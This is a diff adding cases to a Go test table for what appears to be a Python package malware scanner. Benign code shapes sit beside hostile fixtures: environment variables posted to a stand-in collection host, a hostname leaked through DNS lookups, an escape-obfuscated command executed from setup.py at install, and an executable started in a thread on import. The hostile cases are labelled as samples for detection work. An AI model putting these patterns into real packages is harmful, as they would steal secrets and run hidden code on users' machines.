@@ -96,6 +96,21 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"environment sent to a remote address by a CLI command", map[string]string{"p/custom.py": "" +
 			"import os, requests\ndef browse(url):\n    requests.post('https://collect.example.invalid/{0}'.format(os.environ.get('USER')), json={'env': dict(os.environ)})\n"}, "exfiltrates-host-info", Suspicious},
 
+		{"a service manager notified at the socket its environment names", map[string]string{"p/systemd.py": "" +
+			"import os, socket\ndef sd_notify(state):\n    addr = os.environ.get('NOTIFY_SOCKET')\n    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n" +
+			"    sock.connect(addr)\n    sock.sendall(state.encode('utf-8'))\n"}, "", Clean},
+		{"a broker found by the SRV record of the local domain", map[string]string{"p/client.py": "" +
+			"import socket, dns.resolver\ndef discover():\n    fqdn = socket.getfqdn()\n    domain = fqdn[fqdn.find('.') + 1:]\n" +
+			"    return list(dns.resolver.query('_secure-mqtt._tcp.%s' % domain, 'SRV'))\n"}, "", Clean},
+		{"the host name resolved under another domain by a helper", map[string]string{"p/client.py": "" +
+			"import socket, dns.resolver\ndef ping():\n    return dns.resolver.resolve('%s.beacon.example.invalid' % socket.gethostname(), 'A')\n"}, "exfiltrates-host-info", Suspicious},
+		{"byte order marks in a table", map[string]string{"p/constant.py": "" +
+			"ENCODING_MARKS = {'utf_7': [b'\\x2b\\x2f\\x76\\x38', b'\\x2b\\x2f\\x76\\x39', b'\\x2b\\x2f\\x76\\x2b', b'\\x2b\\x2f\\x76\\x2f', b'\\x2b\\x2f\\x76\\x38\\x2d']}\n" +
+			"import re\nPATTERN = re.compile('x')\n"}, "", Clean},
+		{"a command spelled in escapes and run at install", map[string]string{"setup.py": "" +
+			"a = '\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73'\nb = '\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d'\nc = '\\x77\\x68\\x6f\\x61\\x6d\\x69'\n" +
+			"exec(a + ';' + b + '(' + repr(c) + ')')\n"}, "obfuscated-code", Malicious},
+
 		// Code compiled from a constant string is in plain sight.
 		{"a Python 2 shim compiled from a constant in a file that decodes", map[string]string{"p/__init__.py": "" +
 			"import base64, sys\nif sys.version_info < (3,):\n    eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))\n" +
@@ -108,6 +123,17 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import base64\nk = [base64.b64decode(x) for x in ('cHJpbnQoMSk=',)]\nrun = lambda s: s.decode()\neval(run(k[0]))\n"}, "exec-obfuscated", Malicious},
 		{"a codec's state kept with marshal", map[string]string{"p/codec.py": "" +
 			"import marshal\nclass Decoder:\n    def getstate(self):\n        return ('', marshal.dumps(self.state))\n    def setstate(self, state):\n        state = list(marshal.loads(state[1]))\n        self.state = state\n"}, "", Clean},
+
+		// A class body wrapping a function as a static method names it; a
+		// thread started at import runs it.
+		{"a viewer kept as a static method of a mixin imported by the package", map[string]string{
+			"p/__init__.py": "from . import mixins\n",
+			"p/mixins.py":   "from . import viewing\nclass View:\n    _view_windows = staticmethod(viewing.view_windows)\n",
+			"p/viewing.py":  "import os\ndef view_windows(path):\n    os.startfile(path)\n"}, "", Clean},
+		{"the same function started in a thread on import", map[string]string{
+			"p/__init__.py": "from . import mixins\n",
+			"p/mixins.py":   "import threading\nfrom . import viewing\nthreading.Thread(target=viewing.view_windows, args=('update.exe',)).start()\n",
+			"p/viewing.py":  "import os\ndef view_windows(path):\n    os.startfile(path)\n"}, "suspicious-command", Suspicious},
 
 		// Commands a developer runs by name (setup.py preview, test,
 		// release) do not run on pip install; the same class registered
